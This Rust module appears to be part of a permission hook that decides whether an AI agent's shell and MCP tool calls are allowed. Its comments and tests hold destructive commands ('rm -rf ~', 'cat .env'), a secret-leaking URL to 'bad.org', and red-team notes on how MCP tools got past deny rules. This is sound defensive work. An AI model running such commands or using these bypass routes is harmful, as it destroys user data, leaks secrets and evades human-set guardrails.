//! The one entry point from tables to a decision: load the layers, union them, decide, apply
//! self-protection and the host's own checks, and return a typed [`Decided`] that the hook
//! (`host/hook.rs`), `polc decide` (`host/exit.rs`) and `polc explain` (`cli/explain.rs`)
//! render. Nothing here writes output or knows a host's answer format.
//!
//! The seam for later steps: [`Decided`] is a value; a caller may post-process it before
//! rendering with [`Decided::adjust`] (the hook's `finish` does: the session's unknown-root
//! cap today; denial tracking and the agent-configuration tripwire after it).

use super::layers::{self, Layers, Loaded, LoadedLayer, Union};
use super::protect::{self, Finding, Guarded, Protected};
use super::{Cause, Corrupt, Outcome, Request, RuleDesc, RuleFacts, RuleSource};
use crate::ir::Decision;
use std::path::{Path, PathBuf};

/// Why the tables could not decide (each caller says it in its own words).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Failure {
    /// No table configured or found at all: the host's (or caller's) own policy applies.
    /// Self-protection still judged the call ([`Decided::judged`]).
    NoTable,
    /// A table named or found cannot be used: the one-line reason (what to run).
    Unusable(String),
    /// A table's bytes do not hold together: where.
    Corrupt(CorruptTable),
    /// A large table changed while polc read it: the reason.
    Changed(String),
}

/// A corrupt table, as every caller says it: which table (when one was loaded) and which
/// section or rule, at which record or offset.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CorruptTable {
    pub at: Corrupt,
    /// The table's path when one table was loaded (with several, the rule numbers span
    /// them all).
    pub table: Option<PathBuf>,
}

impl CorruptTable {
    fn new(at: Corrupt, loaded: &[LoadedLayer]) -> CorruptTable {
        let table = match loaded {
            [one] => Some(one.spec.path.clone()),
            _ => None,
        };
        CorruptTable { at, table }
    }
}

impl std::fmt::Display for CorruptTable {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.table {
            Some(t) => write!(f, "the policy table {} is corrupt", t.display())?,
            None => f.write_str("the policy table is corrupt")?,
        }
        write!(f, " ({}): run `polc build`", self.at)
    }
}

/// The call to decide.
pub struct Call<'a> {
    /// The host name rules are scoped by.
    pub host: &'a str,
    pub request: &'a Request,
    /// Other readings of the same call (an argv array's space join): the most restrictive
    /// decision wins.
    pub also: &'a [Request],
    /// Set when polc cannot attest the call whatever the rules say: never better than ask.
    pub unattestable: Option<&'a str>,
    /// The agent's working folder (relative paths resolve there).
    pub cwd: &'a Path,
}

/// One root's judgment: the procedure's outcome after self-protection and the host's own
/// checks.
#[derive(Clone, Debug)]
pub struct Judged {
    pub outcome: Outcome,
    /// The self-protection or host-check finding that raised the decision.
    pub finding: Option<Finding>,
    /// The winning rule, described (the synthetic rule's name when `finding` decided).
    pub winner: Option<RuleDesc>,
}

/// What the entry point returns.
pub struct Decided {
    pub decision: Decision,
    /// The judgment that decided (None when the tables failed; with [`Failure::NoTable`],
    /// self-protection's judgment over no rules).
    pub judged: Option<Judged>,
    pub failure: Option<Failure>,
    /// The host's project folder and the session's start disagree: both roots were judged
    /// and no project table granted anything.
    pub disagree: Option<(PathBuf, PathBuf)>,
    /// A later step's decision and reason (see [`Decided::adjust`]).
    pub adjusted: Option<String>,
    /// The tables decided with (explain names rules from them).
    pub loaded: Vec<LoadedLayer>,
    /// The walk of each request of the call ([`Call::request`], then [`Call::also`]; `None`
    /// for a tool call), made once and shared by every root's judgment and the session's
    /// sequence check; empty when no judgment was made (the tables failed).
    pub walks: Walks,
}

/// The walks of a call's requests, in order (see [`Decided::walks`]).
pub type Walks = Vec<Option<crate::shell::Walk>>;

/// Walk each shell command of the call once.
pub fn walks(call: &Call<'_>) -> Walks {
    std::iter::once(call.request)
        .chain(call.also)
        .map(|r| match r {
            Request::Bash { command } => Some(super::links::walk(command, call.cwd)),
            Request::Tool { .. } => None,
        })
        .collect()
}

impl Decided {
    fn failed(f: Failure, loaded: Vec<LoadedLayer>) -> Decided {
        Decided {
            decision: Decision::Deny,
            judged: None,
            failure: Some(f),
            disagree: None,
            adjusted: None,
            loaded,
            walks: Vec::new(),
        }
    }

    /// Post-process: a later step (session, tripwire) replaces the decision and gives the
    /// reason a host shows. The judgment stays for explain and logs.
    pub fn adjust(&mut self, decision: Decision, reason: String) {
        self.decision = decision;
        self.adjusted = Some(reason);
    }

    /// The loaded tables as one rule source, with the synthetic rule of the finding.
    pub fn rules(&self) -> Result<Union<'_>, Corrupt> {
        Union::new(&self.loaded)
    }
}

/// Load `layers`, union them, decide `call` with self-protection under each project root.
pub fn decide(layers: &Layers, call: &Call<'_>) -> Decided {
    let loaded = match layers.load() {
        Loaded::NoTable => {
            // No rules; self-protection still applies (under the host's project root).
            let none = Union::new(&[]);
            let walks = walks(call);
            let judged = none.and_then(|u| {
                let prot =
                    Protected::gather(&[], layers.config_dir.as_deref(), &layers.project_root);
                judge(&u, &prot, call, &walks, &layers.project_root)
            });
            return match judged {
                Ok(j) => Decided {
                    decision: j.outcome.decision,
                    judged: Some(j),
                    failure: Some(Failure::NoTable),
                    disagree: None,
                    adjusted: None,
                    loaded: Vec::new(),
                    walks,
                },
                Err(_) => Decided::failed(Failure::NoTable, Vec::new()),
            };
        }
        Loaded::Unusable(why) => return Decided::failed(Failure::Unusable(why), Vec::new()),
        Loaded::Ready(loaded) => loaded,
    };
    let corrupt = |at, loaded: Vec<LoadedLayer>| {
        let c = CorruptTable::new(at, &loaded);
        Decided::failed(Failure::Corrupt(c), loaded)
    };
    let walks = walks(call);
    let judged = match Union::new(&loaded) {
        Err(at) => return corrupt(at, loaded),
        Ok(u) => judge_roots_walked(&u, &loaded, layers, call, &walks),
    };
    // A large table's bytes are the file's: deny if it changed meanwhile.
    if let Some(why) = layers::changed(&loaded) {
        return Decided::failed(Failure::Changed(why), loaded);
    }
    match judged {
        Err(at) => corrupt(at, loaded),
        Ok(j) => Decided {
            decision: j.outcome.decision,
            judged: Some(j),
            failure: None,
            disagree: layers
                .other_root
                .clone()
                .map(|o| (layers.project_root.clone(), o)),
            adjusted: None,
            loaded,
            walks,
        },
    }
}

/// Judge under each project root (two when the host's folder and the session's start
/// disagree: deny or ask if either says so, allow only if both allow).
pub fn judge_roots(
    src: &dyn RuleSource,
    loaded: &[LoadedLayer],
    layers: &Layers,
    call: &Call<'_>,
) -> Result<Judged, Corrupt> {
    judge_roots_walked(src, loaded, layers, call, &walks(call))
}

/// [`judge_roots`] with the call's [`walks`] already made.
fn judge_roots_walked(
    src: &dyn RuleSource,
    loaded: &[LoadedLayer],
    layers: &Layers,
    call: &Call<'_>,
    walks: &[Option<crate::shell::Walk>],
) -> Result<Judged, Corrupt> {
    let one = |root: &Path| {
        let prot = Protected::gather(loaded, layers.config_dir.as_deref(), root);
        judge(src, &prot, call, walks, root)
    };
    let a = one(&layers.project_root)?;
    let Some(other) = &layers.other_root else {
        return Ok(a);
    };
    Ok(stricter(a, one(other)?))
}

/// The shell commands the input of a tool polc has no family for (MCP tools, another
/// host's terminal tool) holds in a field named like one (`command`, `cmd`, `script`,
/// `shell_command`, `commandLine`; `args`/`argv` as an argv array), at the top level; at
/// most 4. (Red team, session 6: `{"args": ["rm", "-rf", "/"]}` of an unknown tool.)
/// The session reads them as steps too (`host::after`).
pub fn mcp_commands(req: &Request) -> Vec<String> {
    let Request::Tool {
        tool, input_text, ..
    } = req
    else {
        return Vec::new();
    };
    if crate::tools::is_builtin(tool) {
        return Vec::new();
    }
    let Ok(serde_json::Value::Object(m)) = serde_json::from_str(input_text) else {
        return Vec::new();
    };
    m.iter()
        .filter_map(|(k, v)| match (k.to_ascii_lowercase().as_str(), v) {
            (
                "command" | "cmd" | "script" | "shell_command" | "commandline" | "shell",
                serde_json::Value::String(s),
            ) => Some(s.clone()),
            ("command" | "cmd" | "args" | "argv", serde_json::Value::Array(a))
                if !a.is_empty() && a.iter().all(|x| x.is_string()) =>
            {
                let words: Vec<&str> = a.iter().filter_map(|x| x.as_str()).collect();
                Some(words.join(" "))
            }
            _ => None,
        })
        .take(4)
        .collect()
}

/// How many URLs of one tool input are checked; past it the call asks.
const MAX_TOOL_URLS: usize = 16;
/// How many JSON values of one tool input are looked at for URLs; past it the call asks.
const MAX_URL_VALUES: usize = 4096;

/// The URLs the input of a tool polc has no family for (an MCP tool's `{"url": …}`, a
/// browser tool's `navigate`, a URL inside a longer string) names: each is decided as a
/// webfetch, and its deny or ask raises the answer (red team, session 7: under `allow
/// mcp__docs__*`, `mcp__docs__fetch {"url":"https://bad.org/?d=SECRET"}` was allowed although
/// `deny webfetch glob "domain:bad.org"` stood). A bare host (`bad.org`) under a key named
/// like a URL is read as `https://HOST`. `Err` when a bound was met (the caller asks).
fn tool_urls(req: &Request) -> Result<Vec<String>, ()> {
    let Request::Tool {
        tool, input_text, ..
    } = req
    else {
        return Ok(Vec::new());
    };
    if crate::tools::is_builtin(tool) || !input_text.contains(['.', ':']) {
        return Ok(Vec::new());
    }
    let Ok(v) = serde_json::from_str::<serde_json::Value>(input_text) else {
        // Not JSON: its text as one string.
        let mut out = Vec::new();
        urls_in(input_text, false, &mut out);
        return bounded(out);
    };
    let mut out = Vec::new();
    let mut budget = MAX_URL_VALUES;
    let mut stack = vec![(&v, false)];
    while let Some((v, url_key)) = stack.pop() {
        if budget == 0 {
            return Err(());
        }
        budget -= 1;
        match v {
            serde_json::Value::String(s) => urls_in(s, url_key, &mut out),
            serde_json::Value::Array(a) => stack.extend(a.iter().map(|x| (x, url_key))),
            serde_json::Value::Object(m) => {
                for (k, x) in m {
                    let k = k.to_ascii_lowercase();
                    let named = ["url", "uri", "href", "link", "endpoint", "domain", "host"]
                        .iter()
                        .any(|n| k == *n || k.ends_with(&format!("_{n}")) || k.ends_with(n));
                    stack.push((x, named));
                    // The key itself may be a URL (`{"https://bad.org": …}`).
                    urls_in(&k, false, &mut out);
                }
            }
            _ => {}
        }
        if out.len() > MAX_TOOL_URLS {
            return Err(());
        }
    }
    bounded(out)
}

fn bounded(mut out: Vec<String>) -> Result<Vec<String>, ()> {
    out.sort();
    out.dedup();
    if out.len() > MAX_TOOL_URLS {
        return Err(());
    }
    Ok(out)
}

/// The URLs in `s`: every `scheme://…` run (up to whitespace, a quote or an angle bracket),
/// and, under a URL-named key, the whole string when it is a bare host or host/path.
fn urls_in(s: &str, url_key: bool, out: &mut Vec<String>) {
    let t = s.trim();
    if url_key
        && !t.contains("://")
        && !t.is_empty()
        && t.contains('.')
        && !t.contains(char::is_whitespace)
        && !t.starts_with(['/', '.', '~'])
    {
        out.push(format!("https://{t}"));
    }
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(i) = s[from..].find("://").map(|i| i + from) {
        let start = b[..i]
            .iter()
            .rposition(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.')))
            .map_or(0, |p| p + 1);
        let end = b[i..]
            .iter()
            .position(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'<' | b'>' | b'`'))
            .map_or(b.len(), |p| p + i);
        if start < i && end > i + 3 {
            out.push(s[start..end].to_string());
        }
        from = end.max(i + 3);
        if out.len() > MAX_TOOL_URLS {
            return;
        }
    }
}

/// The more restrictive of two roots' judgments (the first on a tie).
fn stricter(a: Judged, b: Judged) -> Judged {
    use Decision::*;
    match (a.outcome.decision, b.outcome.decision) {
        (Deny, _) => a,
        (_, Deny) => b,
        (Ask, _) => a,
        (_, Ask) => b,
        (Allow, Allow) => a,
        (Default, _) => a,
        (_, Default) => b,
    }
}

/// Decide every reading of the call with self-protection under `root`; the most
/// restrictive wins; an unattestable call is never better than ask.
fn judge(
    src: &dyn RuleSource,
    prot: &Protected,
    call: &Call<'_>,
    walks: &[Option<crate::shell::Walk>],
    root: &Path,
) -> Result<Judged, Corrupt> {
    let rank = |d: Decision| match d {
        Decision::Deny => 3,
        Decision::Ask => 2,
        Decision::Default => 1,
        Decision::Allow => 0,
    };
    // `walks` holds one walk per request, in order; a missing one is walked there.
    let walk = |i: usize| walks.get(i).and_then(Option::as_ref);
    let (mut out, mut finding) = protect::decide_guarded_walked(
        src,
        call.host,
        call.request,
        walk(0),
        prot,
        call.cwd,
        root,
    )?;
    // An MCP tool's command field (`mcp__fs__execute_command {"command": "rm -rf ~"}`) runs
    // a shell command: its deny or ask (never its allow or default) raises the answer (red
    // team, session 5: the server's allow let `rm -rf ~` through).
    for command in mcp_commands(call.request) {
        let req = Request::Bash { command };
        let (o, f) = protect::decide_guarded(src, call.host, &req, prot, call.cwd, root)?;
        if matches!(o.decision, Decision::Deny | Decision::Ask)
            && rank(o.decision) > rank(out.decision)
        {
            (out, finding) = (o, f);
        }
    }
    // Likewise the URLs an MCP or unknown tool's input names, decided as webfetches.
    let urls = tool_urls(call.request);
    for url in urls.as_deref().unwrap_or_default() {
        let req = Request::Tool {
            tool: crate::tools::WEBFETCH.to_string(),
            subject: url.clone(),
            input_text: serde_json::json!({ "url": url }).to_string(),
            name: String::new(),
        };
        let (o, f) = protect::decide_guarded(src, call.host, &req, prot, call.cwd, root)?;
        if matches!(o.decision, Decision::Deny | Decision::Ask)
            && rank(o.decision) > rank(out.decision)
        {
            (out, finding) = (o, f);
        }
    }
    for (i, req) in call.also.iter().enumerate() {
        let (o, f) =
            protect::decide_guarded_walked(src, call.host, req, walk(i + 1), prot, call.cwd, root)?;
        if rank(o.decision) > rank(out.decision) {
            (out, finding) = (o, f);
        }
    }
    let too_many = urls
        .is_err()
        .then_some("a tool input naming more URLs than polc checks");
    if let Some(why) = call.unattestable.or(too_many) {
        if matches!(out.decision, Decision::Allow | Decision::Default) {
            out.decision = Decision::Ask;
            out.winner = None;
            out.cause = Cause::Unattestable {
                construct: why.to_string(),
            };
        }
    }
    let g = Guarded {
        inner: src,
        finding: finding.clone(),
    };
    let winner = match &out.cause {
        Cause::Rule { rule } | Cause::PossibleDeny { rule } => Some(g.describe(*rule)?),
        _ => None,
    };
    Ok(Judged {
        outcome: out,
        finding,
        winner,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mcp_command_fields_are_shell_commands() {
        let tool = |name: &str, input: &str| Request::Tool {
            tool: name.into(),
            subject: String::new(),
            input_text: input.into(),
            name: name.into(),
        };
        assert_eq!(
            mcp_commands(&tool(
                "mcp__fs__execute_command",
                r#"{"command":"rm -rf ~","cwd":"/"}"#
            )),
            vec!["rm -rf ~".to_string()]
        );
        assert_eq!(
            mcp_commands(&tool(
                "mcp__x__run",
                r#"{"Cmd":"cat .env","script":"ls","n":3}"#
            ))
            .len(),
            2
        );
        assert!(mcp_commands(&tool("edit", r#"{"command":"rm -rf ~"}"#)).is_empty());
        assert!(mcp_commands(&tool("mcp__x__y", "not json")).is_empty());
        assert!(mcp_commands(&Request::Bash {
            command: "ls".into()
        })
        .is_empty());
    }

    fn judged(d: Decision) -> Judged {
        Judged {
            outcome: Outcome {
                decision: d,
                cause: Cause::NoRule,
                winner: None,
                hits: Vec::new(),
                segments: Vec::new(),
                unattestable: Vec::new(),
            },
            finding: None,
            winner: None,
        }
    }

    #[test]
    fn a_corrupt_table_says_where() {
        use crate::table::sections::Kind;
        let c = CorruptTable::new(Corrupt::record(Kind::Rules, 17), &[]);
        assert_eq!(
            c.to_string(),
            "the policy table is corrupt (section 2 (rules), record 17): run `polc build`"
        );
        let at = |c: Corrupt| c.to_string();
        assert_eq!(
            at(Corrupt::offset(Kind::Strings, 40)),
            "section 1 (strings), offset 40"
        );
        assert_eq!(at(Corrupt::section(Kind::Regex)), "section 8 (regex DFAs)");
        assert_eq!(at(Corrupt::rule(9)), "the rule numbers, rule 9");
    }

    #[test]
    fn two_roots_the_stricter_wins() {
        use Decision::*;
        let all = [Deny, Ask, Default, Allow];
        for a in all {
            for b in all {
                let got = stricter(judged(a), judged(b)).outcome.decision;
                // allow only if both allow; default beats allow.
                let want = *all.iter().find(|d| **d == a || **d == b).unwrap();
                assert_eq!(got, want, "{a:?} {b:?}");
            }
        }
    }

    #[test]
    fn no_rules_still_judges_self_protection() {
        let root = std::env::temp_dir();
        let u = Union::new(&[]).unwrap();
        let prot = Protected::gather(&[], None, &root);
        let req = Request::Bash {
            command: "polc trust".into(),
        };
        let call = Call {
            host: "claude",
            request: &req,
            also: &[],
            unattestable: None,
            cwd: &root,
        };
        let j = judge(&u, &prot, &call, &[], &root).unwrap();
        assert_eq!(j.outcome.decision, Decision::Deny);
        assert_eq!(j.winner.unwrap().id, protect::RULE_ID);
        let req = Request::Bash {
            command: "ls".into(),
        };
        let call = Call {
            request: &req,
            unattestable: Some("x"),
            ..call
        };
        let j = judge(&u, &prot, &call, &[], &root).unwrap();
        assert_eq!(j.outcome.decision, Decision::Ask);
        assert!(j.winner.is_none());
    }
}
